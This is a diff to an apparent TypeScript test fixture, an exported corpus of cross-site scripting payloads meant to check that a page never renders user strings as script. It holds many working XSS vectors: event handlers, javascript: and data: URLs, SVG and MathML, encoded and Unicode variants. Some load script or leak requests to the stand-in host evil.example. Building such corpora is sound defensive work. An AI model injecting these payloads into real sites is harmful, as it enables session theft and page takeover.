@@ -1,6 +1,10 @@
+/** What a string below touches if it runs: this name on `window`, or this host. */
+export const MARKER = '__xss';
+export const EVIL = 'evil.example';
+
 /**
  * What people might write to make a page run it: as a nickname, a title or a message. Each of these, were it ever taken for
- * markup, script, style or a link of ours, would set `window.__xss`, call `alert`, or ask a foreign host (`evil.example`).
+ * markup, script, style or a link of ours, would set `window.__xss` (some by way of `alert`), or ask a foreign host (`evil.example`).
  * Families: tags and handlers; SVG and MathML; links and schemes; ways out of attributes, scripts, comments and styles;
  * encodings; Unicode; templates of frameworks; markdown; prototype and null-ish names; what parsers mend wrongly.
  */
@@ -11,7 +15,7 @@ export const xssCorpus: readonly string[] = [
   '<script src=//evil.example/x.js></script>',
   '<script type=module>import"//evil.example/x"</script>',
   '<img src=x onerror=window.__xss=1>',
-  '<img/src=x/onerror=alert(1)>',
+  '<img/src=x/onerror=alert(__xss=1)>',
   '<IMG SRC=x ONERROR="window.__xss=1">',
   '<img src=//evil.example/pixel.gif>',
   '<img src=x onerror=&#119;indow.__xss=1>',
@@ -21,12 +25,12 @@ export const xssCorpus: readonly string[] = [
   '<iframe srcdoc="<script>parent.__xss=1</script>">',
   '<iframe src=javascript:parent.__xss=1>',
   '<video><source onerror=window.__xss=1>',
-  '<audio src=x onerror=alert(1)>',
+  '<audio src=x onerror=alert(__xss=1)>',
   '<details open ontoggle=window.__xss=1>',
   '<input autofocus onfocus=window.__xss=1>',
-  '<a autofocus tabindex=1 onfocus=alert(1)>',
+  '<a autofocus tabindex=1 onfocus=alert(__xss=1)>',
   '<marquee onstart=window.__xss=1>',
-  '<dialog open onbeforetoggle=alert(1)>',
+  '<dialog open onbeforetoggle=alert(__xss=1)>',
   '<button popovertarget=x>a</button><p popover id=x onbeforetoggle=window.__xss=1>',
   '<p style="animation:x" onanimationstart=window.__xss=1><style>@keyframes x{}</style>',
   '<object data=javascript:window.__xss=1>',
@@ -38,12 +42,12 @@ export const xssCorpus: readonly string[] = [
   '<template shadowrootmode=open><img src=x onerror=window.__xss=1></template>',
   // SVG and MathML.
   '<svg onload=window.__xss=1>',
-  '<svg/onload=alert(1)//',
+  '<svg/onload=alert(__xss=1)//',
   '<svg><script>window.__xss=1</script></svg>',
   '<svg><script href=//evil.example/x.js />',
   '<svg><a xlink:href=javascript:window.__xss=1><text y=9>x</text></a></svg>',
   '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
-  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x">',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(__xss=1)>#x">',
   '<svg><foreignObject><iframe onload=window.__xss=1></foreignObject></svg>',
   '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
   '<math href=javascript:window.__xss=1>x</math>',
@@ -53,9 +57,9 @@ export const xssCorpus: readonly string[] = [
   'JaVaScRiPt:window.__xss=1',
   'javascript://evil.example/%0awindow.__xss=1',
   'java\tscript:window.__xss=1',
-  'java\nscript:alert(1)',
+  'java\nscript:alert(__xss=1)',
   'data:text/html,<script>opener.__xss=1</script>',
-  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3M9MTwvc2NyaXB0Pg==',
+  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3M9MTwvc2NyaXB0Pg==#evil.example',
   'vbscript:window.__xss=1',
   'https://evil.example/"onmouseover="window.__xss=1',
   "https://evil.example/'onfocus='window.__xss=1'autofocus='",
@@ -82,7 +86,7 @@ export const xssCorpus: readonly string[] = [
   "';window.__xss=1;//",
   '${window.__xss=1}',
   '\\";window.__xss=1;//',
-  '\u2028window.__xss=1\u2029alert(1)',
+  '\u2028window.__xss=1\u2029alert(__xss=1)',
   'a{background:url(//evil.example/x.png)}',
   '@import"//evil.example/x.css";',
   '<style>*{background:url(//evil.example/leak)}</style>',
@@ -91,23 +95,23 @@ export const xssCorpus: readonly string[] = [
   // Encodings.
   '&lt;script&gt;window.__xss=1&lt;/script&gt;',
   '&#60;img src=x onerror=window.__xss=1&#62;',
-  '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
+  '&#x3c;script&#x3e;alert(__xss=1)&#x3c;/script&#x3e;',
   '%3Cscript%3Ewindow.__xss=1%3C/script%3E',
-  '%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E',
+  '%253Cimg%2520src%253Dx%2520onerror%253Dalert(__xss=1)%253E',
   '\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e',
-  '\\x3cimg src=x onerror=alert(1)\\x3e',
+  '\\x3cimg src=x onerror=alert(__xss=1)\\x3e',
   '+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-',
   'javascript&colon;window.__xss=1',
-  'javascript&#58;alert(1)',
+  'javascript&#58;alert(__xss=1)',
   // Unicode: shapes that a normalisation or a lower-casing might turn into markup, and orders that deceive.
   '\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e',
   '﹤img src=x onerror=window.__xss=1﹥',
   '<ſcript>window.__xss=1</ſcript>',
-  '<ımg src=x onerror=alert(1)>',
+  '<ımg src=x onerror=alert(__xss=1)>',
   '\u202e<script>window.__xss=1</script>',
-  '\u2066>1=ssx__.wodniw=rorreno x=crs gmi<\u2069',
+  '\u2066>1=ssx__.wodniw=rorreno x=crs gmi<\u2069//evil.example',
   '<scr\u200bipt>window.__xss=1</scr\u200bipt>',
-  '\ufeff<script>alert(1)</script>',
+  '\ufeff<script>alert(__xss=1)</script>',
   '<img src=x\u00a0onerror=window.__xss=1>',
   '<\u0338script>window.__xss=1</script>',
   // Templates of frameworks, and markdown.
@@ -126,11 +130,11 @@ export const xssCorpus: readonly string[] = [
   '<javascript:window.__xss=1>',
   '```html\n<script>window.__xss=1</script>\n```',
   // Names that programs stumble over, armed.
-  '__proto__<img src=x onerror=alert(1)>',
-  'constructor"><script>alert(1)</script>',
+  '__proto__<img src=x onerror=alert(__xss=1)>',
+  'constructor"><script>alert(__xss=1)</script>',
   'null<svg onload=window.__xss=1>',
-  'undefined</script><script>alert(1)</script>',
-  '[object Object]<img src=x onerror=alert(1)>',
+  'undefined</script><script>alert(__xss=1)</script>',
+  '[object Object]<img src=x onerror=alert(__xss=1)>',
   'toString(){window.__xss=1}',
   // What parsers mend in their own way.
   '<<script>window.__xss=1//<</script>',
@@ -138,7 +142,7 @@ export const xssCorpus: readonly string[] = [
   '<img """><script>window.__xss=1</script>">',
   '<a href="x"<script>window.__xss=1</script>',
   '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
-  '<select><template><img src=x onerror=alert(1)></template></select>',
+  '<select><template><img src=x onerror=alert(__xss=1)></template></select>',
   '<xmp><p title="</xmp><img src=x onerror=window.__xss=1>">',
   '<table><td background=javascript:window.__xss=1>',
   '<x onclick=window.__xss=1 style=position:fixed;inset:0>click',
